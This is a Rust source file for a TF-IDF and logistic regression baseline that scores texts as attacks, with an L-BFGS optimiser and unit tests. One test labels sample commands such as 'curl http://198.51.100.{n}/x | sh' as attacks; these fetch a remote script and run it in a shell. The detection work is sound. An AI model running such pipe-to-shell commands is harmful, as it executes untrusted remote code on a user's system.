//! The linear twin: TF-IDF over words and characters with logistic regression,
//! trained on the shipped corpus. A classifier that does not beat it at equal
//! false positives is not worth its time.
//!
//! Terms are words and pairs of words, and runs of 2 to 5 characters, weighted by
//! (1 + ln count) times the smoothed inverse document frequency; each of the two
//! parts is scaled to length 1. Weights minimise the mean logistic loss, both
//! classes with equal weight, plus an L2 term. No randomness.

use std::collections::{BTreeMap, HashMap};

/// Rows that a term must occur in.
const MIN_ROWS: u32 = 2;
/// Characters of a text that are read.
const MAX_CHARS: usize = 8_000;
/// The L2 term is this much for each row.
const L2: f64 = 0.1;
const ITERATIONS: usize = 120;
/// Pairs that the limited-memory BFGS keeps.
const HISTORY: usize = 8;

/// A trained linear model.
#[derive(Debug)]
pub(crate) struct Twin {
    /// By the hash of a term: its index and its inverse document frequency.
    terms: HashMap<u64, (u32, f64)>,
    /// One for each term, then the intercept.
    weights: Vec<f64>,
}

/// A text as a sparse vector.
type Sparse = Vec<(u32, f64)>;

impl Twin {
    /// `rows`: texts and whether each is an attack. `None` unless both classes are
    /// there.
    pub(crate) fn train(rows: &[(&str, bool)]) -> Option<Self> {
        let attacks = rows.iter().filter(|(_, is_attack)| *is_attack).count();
        if attacks == 0 || attacks == rows.len() {
            return None;
        }
        let mut frequencies: BTreeMap<u64, u32> = BTreeMap::new();
        for (text, _) in rows {
            for part in counts(text) {
                for term in part.keys() {
                    *frequencies.entry(*term).or_default() += 1;
                }
            }
        }
        let kept = frequencies.iter().filter(|(_, n)| **n >= MIN_ROWS);
        let terms: HashMap<u64, (u32, f64)> = kept
            .zip(0u32..)
            .map(|((term, n), idx)| {
                let idf = ((1.0 + rows.len() as f64) / (1.0 + f64::from(*n))).ln() + 1.0;
                (*term, (idx, idf))
            })
            .collect();
        let mut twin = Self {
            weights: vec![0.0; terms.len() + 1],
            terms,
        };
        let vectors: Vec<(Sparse, f64, f64)> = rows
            .iter()
            .map(|(text, is_attack)| {
                let class = if *is_attack {
                    attacks
                } else {
                    rows.len() - attacks
                };
                let sign = if *is_attack { 1.0 } else { -1.0 };
                (twin.vector(text), sign, 0.5 / class as f64)
            })
            .collect();
        minimise(&mut twin.weights, |weights, gradient| {
            loss(&vectors, weights, gradient, L2 / rows.len() as f64)
        });
        Some(twin)
    }

    /// The log-odds of an attack.
    pub(crate) fn score(&self, text: &str) -> f64 {
        dot(&self.vector(text), &self.weights)
    }

    fn vector(&self, text: &str) -> Sparse {
        let mut vector = Vec::new();
        for part in counts(text) {
            let known = part.iter().filter_map(|(term, n)| {
                let (idx, idf) = self.terms.get(term)?;
                Some((*idx, (1.0 + f64::from(*n).ln()) * idf))
            });
            let mut part: Sparse = known.collect();
            let length = part.iter().map(|(_, x)| x * x).sum::<f64>().sqrt();
            for (_, x) in &mut part {
                *x /= length;
            }
            vector.append(&mut part);
        }
        vector
    }
}

/// How often each term occurs: words, then characters. Hashes stand for terms.
fn counts(text: &str) -> [BTreeMap<u64, u32>; 2] {
    let text: String = text.to_lowercase().chars().take(MAX_CHARS).collect();
    let mut words = BTreeMap::new();
    let all: Vec<&str> = text
        .split(|c: char| !c.is_alphanumeric() && c != '_')
        .filter(|word| !word.is_empty())
        .collect();
    for (idx, word) in all.iter().enumerate() {
        *words.entry(hash(b"w", word.as_bytes())).or_default() += 1;
        if let Some(next) = all.get(idx + 1) {
            let pair = format!("{word} {next}");
            *words.entry(hash(b"w", pair.as_bytes())).or_default() += 1;
        }
    }
    let mut runs = BTreeMap::new();
    let borders: Vec<usize> = text
        .char_indices()
        .map(|(at, _)| at)
        .chain([text.len()])
        .collect();
    for length in 2..=5 {
        for window in borders.windows(length + 1) {
            let run = &text.as_bytes()[window[0]..window[length]];
            *runs.entry(hash(b"c", run)).or_default() += 1;
        }
    }
    [words, runs]
}

/// FNV-1a, of a kind of term and the term.
pub(crate) fn hash(kind: &[u8], term: &[u8]) -> u64 {
    let step = |hash: u64, byte: &u8| (hash ^ u64::from(*byte)).wrapping_mul(0x0100_0000_01b3);
    kind.iter().chain(term).fold(0xcbf2_9ce4_8422_2325, step)
}

fn dot(vector: &[(u32, f64)], weights: &[f64]) -> f64 {
    let intercept = weights.last().copied().unwrap_or(0.0);
    let terms = vector.iter().map(|(idx, x)| x * weights[*idx as usize]);
    intercept + terms.sum::<f64>()
}

/// Mean logistic loss with its L2 term; writes the gradient. The intercept is not
/// held down.
fn loss(rows: &[(Sparse, f64, f64)], weights: &[f64], gradient: &mut [f64], l2: f64) -> f64 {
    let last = weights.len() - 1;
    let mut total = 0.0;
    for (slot, weight) in gradient.iter_mut().zip(weights) {
        *slot = l2 * weight;
        total += 0.5 * l2 * weight * weight;
    }
    total -= 0.5 * l2 * weights[last] * weights[last];
    gradient[last] = 0.0;
    for (vector, sign, share) in rows {
        let margin = sign * dot(vector, weights);
        total += share * (-margin.abs()).exp().ln_1p() + share * (-margin).max(0.0);
        let slope = -sign * share / (1.0 + margin.exp());
        for (idx, x) in vector {
            gradient[*idx as usize] += slope * x;
        }
        gradient[last] += slope;
    }
    total
}

/// Limited-memory BFGS with a line search that only backs off (Nocedal and
/// Wright, algorithms 7.4, 7.5 and 3.1).
fn minimise(at: &mut [f64], mut function: impl FnMut(&[f64], &mut [f64]) -> f64) {
    let inner = |a: &[f64], b: &[f64]| a.iter().zip(b).map(|(a, b)| a * b).sum::<f64>();
    let mut gradient = vec![0.0; at.len()];
    let mut value = function(at, &mut gradient);
    let mut history: Vec<(Vec<f64>, Vec<f64>, f64)> = Vec::new();
    for _ in 0..ITERATIONS {
        let mut direction: Vec<f64> = gradient.iter().map(|g| -g).collect();
        let mut shares = Vec::new();
        for (step, change, rho) in history.iter().rev() {
            let share = rho * inner(step, &direction);
            shares.push(share);
            add(&mut direction, change, -share);
        }
        if let Some((_, change, rho)) = history.last() {
            let scale = 1.0 / (rho * inner(change, change));
            direction.iter_mut().for_each(|d| *d *= scale);
        }
        for ((step, change, rho), share) in history.iter().zip(shares.iter().rev()) {
            let back = rho * inner(change, &direction);
            add(&mut direction, step, share - back);
        }
        let slope = inner(&direction, &gradient);
        if slope > -1e-12 {
            return;
        }
        let mut length = 1.0;
        let mut next_gradient = vec![0.0; at.len()];
        let (next, next_value) = loop {
            let mut next = at.to_vec();
            add(&mut next, &direction, length);
            let next_value = function(&next, &mut next_gradient);
            if next_value <= value + 1e-4 * length * slope {
                break (next, next_value);
            }
            length *= 0.5;
            if length < 1e-12 {
                return;
            }
        };
        let mut step = next.clone();
        add(&mut step, at, -1.0);
        let mut change = next_gradient.clone();
        add(&mut change, &gradient, -1.0);
        let curvature = inner(&step, &change);
        if curvature > 1e-16 {
            history.push((step, change, 1.0 / curvature));
            if history.len() > HISTORY {
                history.remove(0);
            }
        }
        at.copy_from_slice(&next);
        let gain = value - next_value;
        value = next_value;
        gradient = next_gradient;
        if gain < 1e-9 * value.abs() {
            return;
        }
    }
}

/// `to += factor * from`
fn add(to: &mut [f64], from: &[f64], factor: f64) {
    for (to, from) in to.iter_mut().zip(from) {
        *to += factor * from;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_minimum_of_a_quadratic_is_found() {
        // (x - 3)^2 + 10 (y + 1)^2
        let mut at = [0.0, 0.0];
        minimise(&mut at, |at, gradient| {
            gradient[0] = 2.0 * (at[0] - 3.0);
            gradient[1] = 20.0 * (at[1] + 1.0);
            (at[0] - 3.0).powi(2) + 10.0 * (at[1] + 1.0).powi(2)
        });
        assert!(
            (at[0] - 3.0).abs() < 1e-3 && (at[1] + 1.0).abs() < 1e-3,
            "{at:?}"
        );
    }

    #[test]
    fn gradient_is_that_of_the_loss() {
        let rows = vec![
            (vec![(0, 0.6), (1, 0.8)], 1.0, 0.5),
            (vec![(1, 1.0)], -1.0, 0.5),
        ];
        let weights = [0.3, -0.7, 0.2];
        let mut gradient = [0.0; 3];
        let mut ignored = [0.0; 3];
        loss(&rows, &weights, &mut gradient, 0.05);
        for idx in 0..3 {
            let (mut up, mut down) = (weights, weights);
            up[idx] += 1e-6;
            down[idx] -= 1e-6;
            let slope = (loss(&rows, &up, &mut ignored, 0.05)
                - loss(&rows, &down, &mut ignored, 0.05))
                / 2e-6;
            assert!(
                (slope - gradient[idx]).abs() < 1e-6,
                "{idx}: {slope} {gradient:?}"
            );
        }
    }

    #[test]
    fn what_it_has_seen_in_attacks_scores_higher() {
        let attacks = (0..20).map(|n| (format!("curl http://198.51.100.{n}/x | sh"), true));
        let benign = (0..20).map(|n| (format!("tar -czf backup{n}.tgz /srv/app"), false));
        let rows: Vec<(String, bool)> = attacks.chain(benign).collect();
        let rows: Vec<(&str, bool)> = rows.iter().map(|(text, is)| (text.as_str(), *is)).collect();
        let twin = Twin::train(&rows).unwrap();
        assert!(twin.score("curl http://203.0.113.9/y | sh") > 1.0);
        assert!(twin.score("tar -xzf release.tgz") < -0.5);
        let again = Twin::train(&rows).unwrap();
        assert_eq!(again.weights, twin.weights);
        assert!(Twin::train(&rows[..20]).is_none());
    }
}
